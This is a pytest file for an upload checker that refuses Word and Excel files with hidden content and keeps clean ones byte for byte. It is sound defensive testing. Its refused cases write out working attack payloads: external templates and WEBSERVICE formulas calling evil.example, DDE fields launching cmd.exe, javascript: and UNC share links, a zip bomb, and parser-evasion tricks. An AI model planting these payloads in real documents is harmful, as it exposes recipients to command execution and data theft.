"""A Word or Excel file with something hidden in it is refused, however it is written."""

import io
import re
import struct
import zipfile
from collections.abc import Callable

import docx
import pytest

from services.domain.errors import AnswerRefused
from services.storage.checking import check

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
RELS = "word/_rels/document.xml.rels"
TEMPLATE = f'<Relationship Id="r9" Type="{R}attachedTemplate" Target="{{}}" TargetMode="External"/>'
OUTSIDE = TEMPLATE.format("http://evil.example/t.dotm")


def a_document() -> bytes:
    written = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("Hello")
    document.save(written)
    return written.getvalue()


PLAIN = a_document()
Recipe = Callable[[], bytes]


def changed(name: str, old: str, new: str) -> Recipe:
    """Say how to make the document with something put into one of its parts."""
    return rewritten({name: part_of(name).replace(old.encode(), new.encode(), 1)})


def rewritten(parts: dict[str, bytes]) -> Recipe:
    """Say how to make the document with these parts in place of its own, or added to them.

    It is made by the test that asks for it: an import of this file waits for none of them.
    """
    return lambda: with_parts(parts)


def with_parts(parts: dict[str, bytes]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(PLAIN)) as old, zipfile.ZipFile(written, "w", 8) as new:
        for name in old.namelist():
            new.writestr(name, parts.get(name, old.read(name)))
        for name in parts.keys() - set(old.namelist()):
            new.writestr(name, parts[name])
    return written.getvalue()


def part_of(name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(PLAIN)) as whole:
        return whole.read(name)


def tied(relationship: str) -> Recipe:
    """Say how to make the document with one more relationship."""
    return changed(RELS, "</Relationships>", relationship + "</Relationships>")


def a_hyperlink(target: str) -> Recipe:
    return tied(
        OUTSIDE.replace("attachedTemplate", "hyperlink").replace(
            "http://evil.example/t.dotm", target
        )
    )


def saying(xml: str) -> Recipe:
    """Say how to make the document with more in its body."""
    return changed("word/document.xml", "<w:body>", "<w:body>" + xml)


def wide(encoding: str) -> Recipe:
    """Say how to make the document with relationships of two bytes a character, unmarked."""
    text = part_of(RELS).decode().replace("</Relationships>", OUTSIDE + "</Relationships>")
    head = "<?xml version='1.0' encoding='UTF-16'?>"
    return rewritten({RELS: (head + text.partition("?>")[2]).encode(encoding)})


def coded(code: str) -> str:
    return f"<w:r><w:instrText>{code}</w:instrText></w:r>"


def marked(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def a_field(*codes: str) -> str:
    """Return a field whose code is cut over several runs."""
    return marked("begin") + "".join(map(coded, codes)) + marked("end")


def runs(*codes: str) -> str:
    return f"<w:p>{a_field(*codes)}</w:p>"


def late_doctype() -> Recipe:
    body = re.sub(rb"<\?xml[^>]*\?>", b"", part_of("word/document.xml"))
    head = b"<?xml version='1.0'?><!--" + b"x" * 5000 + b"-->"
    return rewritten({"word/document.xml": head + b"<!DOCTYPE a [<!ENTITY e 'x'>]>" + body})


def unpacks_to_far_more() -> bytes:
    """Return the document with 300 MB of one letter in it."""
    return with_parts({"word/media/a.xml": b"<a>" + b" " * 300_000_000 + b"</a>"})


def overlapping() -> bytes:
    """Return the document with two names in its directory for the same bytes."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", 8) as new, zipfile.ZipFile(io.BytesIO(PLAIN)) as old:
        for name in old.namelist():
            new.writestr(name, old.read(name))
        twin = zipfile.ZipInfo("word/theme.xml")
        first = new.infolist()[0]
        for field in ("CRC", "compress_size", "file_size", "header_offset", "compress_type"):
            setattr(twin, field, getattr(first, field))
        new.filelist.append(twin)
    return written.getvalue()


REFUSED: dict[str, tuple[Recipe, str]] = {
    "an external template": (tied(OUTSIDE), "linked"),
    "an entity in the mode": (tied(OUTSIDE.replace("External", "&#69;xternal")), "linked"),
    "an entity in the type": (tied(OUTSIDE.replace("attachedT", "attached&#x54;")), "linked"),
    "a raw > before the mode": (
        tied(OUTSIDE.replace("<Relationship ", '<Relationship x="a>b" ')),
        "linked",
    ),
    "a type in another attribute": (
        tied(OUTSIDE.replace("<Relationship ", "<Relationship x=\"Type='/hyperlink'\" ")),
        "linked",
    ),
    "relationships in UTF-16BE": (wide("utf-16-be"), "linked"),
    "relationships in UTF-16LE": (wide("utf-16-le"), "linked"),
    "a link to a file": (a_hyperlink("file://10.0.0.1/share"), "linked"),
    "a link to a share": (a_hyperlink("\\\\10.0.0.1\\share"), "linked"),
    "a link to a script": (a_hyperlink("javascript:alert(1)"), "linked"),
    "a target that leads out unasked": (
        tied(OUTSIDE.replace(' TargetMode="External"', "").replace("attachedTemplate", "image")),
        "linked",
    ),
    "a picture from a site": (tied(OUTSIDE.replace("attachedTemplate", "image")), "linked"),
    "a part of HTML": (
        tied(f'<Relationship Id="r9" Type="{R}aFChunk" Target="/word/x.xml"/>'),
        "other files inside",
    ),
    "a macro type by an entity": (
        changed(
            "[Content_Types].xml",
            "</Types>",
            '<Override PartName="/word/v.xml" ContentType="application/vnd.ms-word.document.'
            'm&#97;croEnabled.main+xml"/></Types>',
        ),
        "macros",
    ),
    "a project of macros": (rewritten({"word/vbaProject.bin": b"x"}), "macros"),
    "an ActiveX control": (rewritten({"word/activeX/activeX1.xml": b"<x/>"}), "macros"),
    "an OLE object": (rewritten({"word/embeddings/o.bin": b"\xd0\xcf\x11\xe0"}), "other files"),
    "a workbook behind a chart": (rewritten({"word/embeddings/a.xlsx": PLAIN}), "other files"),
    "a program under a picture's name": (rewritten({"word/media/a.png": b"MZ\x90"}), "other files"),
    "a part of an unknown kind": (rewritten({"word/data.bin": b"x"}), "other files"),
    "DDE in a simple field": (
        saying('<w:p><w:fldSimple w:instr="&#68;DEAUTO c:\\cmd.exe"><w:r/></w:fldSimple></w:p>'),
        "linked",
    ),
    "DDE cut over runs": (saying(runs("DDE", "AUTO c:\\cmd")), "linked"),
    "DDE behind white space": (saying(runs(" \n", "\tDDE c:\\cmd")), "linked"),
    "a field that never ends": (
        saying(f"<w:p>{marked('begin')}{coded('DDEAUTO c:')}</w:p>"),
        "linked",
    ),
    "a keyword that is computed": (
        saying(f"<w:p>{marked('begin')}{a_field('QUOTE 68 68 69')}{marked('end')}</w:p>"),
        "linked",
    ),
    "a field that links to a share": (saying(runs('HYPERLINK "\\\\\\\\evil\\\\s"')), "linked"),
    "a mail merge": (
        changed("word/settings.xml", "</w:settings>", "<w:mailMerge/></w:settings>"),
        "linked",
    ),
    "a DOCTYPE behind 5,000 characters": (late_doctype(), "damaged"),
    "an encoding the format has not": (
        changed("word/document.xml", "UTF-8", "ISO-8859-1"),
        "damaged",
    ),
    "text that is no XML": (rewritten({"word/document.xml": b"<a><b></a>"}), "damaged"),
    "one part twice": (rewritten({"word/Document.xml": b"<a/>"}), "damaged"),
    "a PDF's head before it": (lambda: b"%PDF-1.7\n" + PLAIN, "Choose a PDF|damaged"),
    "a page before it": (lambda: b"<html><script>" + PLAIN, "Choose a PDF"),
    "something behind it": (lambda: PLAIN + b"<script>", "damaged|Choose a PDF"),
    "members that overlap": (overlapping, "damaged"),
    "300 MB of one letter": (unpacks_to_far_more, "unpacks to far more"),
}


LONG = "300 MB of one letter"


@pytest.mark.parametrize(
    "what",
    [*(each for each in REFUSED if each != LONG), pytest.param(LONG, marks=pytest.mark.slow)],
)
def test_a_file_with_something_hidden_in_it_is_refused(what: str):
    make, told = REFUSED[what]
    content = make()
    assert content != PLAIN, "the trick is in the file"
    with pytest.raises(AnswerRefused, match=told):
        check("a.docx" if content.startswith(b"PK") else "a.pdf", content)


def in_utf_16(part: bytes) -> bytes:
    return part.decode().replace("UTF-8", "UTF-16").encode("utf-16")


KEPT: dict[str, Recipe] = {
    "a plain document": lambda: PLAIN,
    "a link to a site": a_hyperlink("https://www.gov.uk/"),
    "a link to an email": a_hyperlink("mailto:desk@partnership.example"),
    "a link within it": saying(runs('HYPERLINK \\l "_Toc1"')),
    "a link to a site by a field": saying(runs('HYPERLINK "https://www.gov.uk" \\o "x"')),
    "the number of the page": saying(runs(" PAGE ")),
    "a field in another one": saying(
        f"<w:p>{marked('begin')}{coded('IF ')}{a_field('PAGE')}{marked('end')}</w:p>"
    ),
    "words about DDE": saying("<w:p><w:r><w:t>DDEAUTO is a field code.</w:t></w:r></w:p>"),
    "a picture in it": rewritten({"word/media/image1.png": b"\x89PNG\r\n\x1a\nx"}),
    "text in UTF-16": rewritten({"word/document.xml": in_utf_16(part_of("word/document.xml"))}),
}


@pytest.mark.parametrize("what", KEPT)
def test_a_file_with_nothing_hidden_in_it_is_kept_byte_for_byte(what: str):
    content = KEPT[what]()
    checked = check("a.docx", content)
    assert checked.content == content
    assert checked.is_as_sent


def a_workbook(formula: str) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", 8) as new:
        new.writestr("[Content_Types].xml", b"<Types/>")
        new.writestr("xl/workbook.xml", b"<workbook/>")
        new.writestr("xl/printerSettings/printerSettings1.bin", struct.pack("<I", 7))
        new.writestr("xl/worksheets/sheet1.xml", f"<sheet><c><f>{formula}</f></c></sheet>")
    return written.getvalue()


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|' /C calc'!A0",
        "'cmd'|'/c calc'!A0",
        'WEBSERVICE("http://evil.example/"&amp;A1)',
        'RTD("x",,"y")',
    ],
)
def test_a_formula_that_asks_something_else_is_refused(formula: str):
    with pytest.raises(AnswerRefused, match="linked"):
        check("a.xlsx", a_workbook(formula))


@pytest.mark.parametrize("formula", ["SUM(A1:A3)", 'A1&amp;"|"&amp;B1', "'Returns | 2026'!A1*2"])
def test_a_formula_that_only_reckons_is_kept(formula: str):
    assert check("a.xlsx", a_workbook(formula)).extension == "xlsx"
